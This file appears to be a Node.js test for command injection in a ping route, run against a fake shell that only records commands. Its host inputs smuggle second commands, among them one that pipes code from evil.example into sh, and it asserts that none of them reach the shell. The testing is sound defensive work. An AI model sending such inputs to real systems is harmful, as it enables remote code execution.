'use strict';
const { test, beforeEach } = require('node:test');
const assert = require('node:assert');
const path = require('node:path');
const { installFakeChildProcess, makeReq, makeRes, withTimeout } = require('../testkit');

// Commands are recorded, never run; the check is what a shell would have been given.
const fake = installFakeChildProcess(() => ({ stdout: 'time=1.0 ms\n' }));
const mod = require(path.resolve(__dirname, process.env.CASE_MODULE || 'app.js'));

beforeEach(() => fake.reset());

for (const host of ['127.0.0.1; touch /tmp/pwned', '127.0.0.1 && curl http://evil.example/x | sh', '$(touch /tmp/pwned)', '`id`']) {
  test(`no second shell command from the host parameter: ${host}`, async () => {
    const res = makeRes();
    try {
      await mod.pingRoute(makeReq({ query: { host } }), res);
      await withTimeout(res.done);
    } catch { /* rejecting the request is fine */ }
    for (const cmd of fake.shellCommands()) {
      assert.ok(!/touch|curl|\$\(|`/.test(cmd), `the shell was given: ${cmd}`);
    }
  });
}
